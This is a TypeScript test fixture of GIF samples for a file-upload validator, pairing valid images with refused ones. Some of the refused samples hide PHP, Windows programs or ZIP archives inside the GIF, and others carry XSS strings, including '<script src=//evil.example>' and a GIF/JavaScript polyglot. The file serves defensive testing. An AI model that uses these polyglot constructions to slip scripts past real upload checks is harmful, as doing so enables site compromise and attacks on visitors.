import { buildGif, gifBlocks, gifExtension, gifImage } from './gif.ts';
import { join, noise, PDF, PHP, plainZip, SCRIPT, u8, u16le, WINDOWS_PROGRAM } from './parts.ts';
import { accepted, refused, type SampleCase } from './sample-cases.ts';

const picture = buildGif();
const control = gifExtension(0xf9, u8(0, 10, 0, 0));

const cases: readonly SampleCase[] = [
  accepted('a small GIF image', () => picture),
  accepted('a GIF image of the first version', () => buildGif({ version: '87a' })),
  accepted('an animated GIF image', () =>
    buildGif({
      blocks: [
        gifExtension(0xff, join('NETSCAPE2.0', u8(1, 0, 0))),
        control,
        gifImage(),
        control,
        gifImage(),
      ],
    }),
  ),
  accepted('a GIF image with a comment', () =>
    buildGif({ blocks: [gifExtension(0xfe, 'Made by hand <3'), gifImage()] }),
  ),
  accepted('a GIF image with a local colour table', () =>
    buildGif({
      blocks: [
        join(
          u8(0x2c),
          u16le(0),
          u16le(0),
          u16le(1),
          u16le(1),
          u8(0x81),
          noise(12),
          u8(2),
          gifBlocks(u8(0x44, 1)),
        ),
      ],
    }),
  ),
  accepted('a GIF image with a picture of many blocks', () =>
    buildGif({ blocks: [gifImage(noise(20_000), 8)] }),
  ),
  accepted('a GIF image padded with zeros', () => buildGif({ after: Buffer.alloc(9) })),
  accepted('a GIF image that is 10,799 pixels wide', () =>
    buildGif({ width: 0x2a2f, blocks: [gifExtension(0xfe, 'wide'), gifImage()] }),
  ),

  refused('image.bytes_after_end', 'a GIF image with a ZIP archive after its end', () =>
    join(picture, plainZip()),
  ),
  refused('image.bytes_after_end', 'a GIF image with a PHP script after its end', () => join(picture, PHP)),
  refused('image.bytes_after_end', 'a GIF image with a Windows program after its end', () =>
    join(picture, WINDOWS_PROGRAM),
  ),
  refused('image.bytes_after_end', 'a GIF image followed by another', () => join(picture, picture)),
  refused('gif.lead_in_metadata', 'a GIF image with a PHP script in a comment', () =>
    buildGif({ blocks: [gifExtension(0xfe, PHP), gifImage()] }),
  ),
  refused('gif.lead_in_metadata', 'a GIF image with a browser script in an application extension', () =>
    buildGif({ blocks: [gifExtension(0xff, join('XMP DataXMP', SCRIPT)), gifImage()] }),
  ),
  refused('gif.lead_in_metadata', 'a GIF image with a script cut by the blocks of a comment', () =>
    buildGif({
      blocks: [gifExtension(0xfe, join('x'.repeat(250), '<script src=//evil.example>')), gifImage()],
    }),
  ),
  refused('gif.script_comment', 'a GIF image that is a script too', () =>
    buildGif({ width: 0x2a2f, blocks: [gifExtension(0xfe, '*/=1;alert(1)'), gifImage()] }),
  ),
  refused('content.hidden_script', 'a GIF image with a PHP script in its pixels', () =>
    buildGif({ blocks: [gifImage(join(PHP))] }),
  ),
  refused('content.hidden_pdf', 'a GIF image that is a PDF document too', () =>
    buildGif({ blocks: [gifImage(join(PDF)), gifImage()] }),
  ),
  refused('content.hidden_archive', 'a GIF image that is a ZIP archive too', () =>
    buildGif({ blocks: [gifImage(plainZip())] }),
  ),
  refused('gif.incomplete', 'a GIF image without its end', () => picture.subarray(0, -1)),
  refused('gif.incomplete', 'a GIF image cut off in its picture', () => picture.subarray(0, -3)),
  refused('gif.incomplete', 'a GIF signature alone', () => Buffer.from('GIF89a')),
  refused('image.too_many_pixels', 'a web page behind a GIF signature', () =>
    Buffer.from('GIF89a<svg onload=alert(1)>'),
  ),
  refused('gif.no_image_data', 'a GIF image without a picture', () => buildGif({ blocks: [] })),
  refused('gif.picture_data', 'a GIF image with a picture of impossible codes', () =>
    buildGif({ blocks: [gifImage(u8(1), 12)] }),
  ),
  refused('gif.unknown_block', 'a GIF image with a block that does not exist', () =>
    buildGif({ blocks: [u8(0x99)] }),
  ),
  refused('gif.unknown_block', 'a script behind a GIF signature', () =>
    join('GIF89a', u8(1, 0, 1, 0, 0, 0, 0), ';alert(1);//'.slice(1)),
  ),
  refused('gif.extension_too_large', 'a GIF image with a comment of more than a megabyte', () =>
    buildGif({ blocks: [gifExtension(0xfe, Buffer.alloc(1024 * 1024 + 1, 'a')), gifImage()] }),
  ),
  refused('gif.too_many_blocks', 'a GIF image with two hundred thousand extensions', () =>
    buildGif({ blocks: [Buffer.alloc(600_003, u8(0x21, 0xf9, 0))] }),
  ),
  refused('image.no_pixels', 'a GIF image of no width', () => buildGif({ width: 0 })),
  refused('image.too_many_pixels', 'a GIF image of four billion pixels', () =>
    buildGif({ width: 65_535, height: 65_535 }),
  ),
];

/** GIF images. */
export const GIF_SAMPLES = cases.map((make) => make('dance.gif', 'image/gif'));
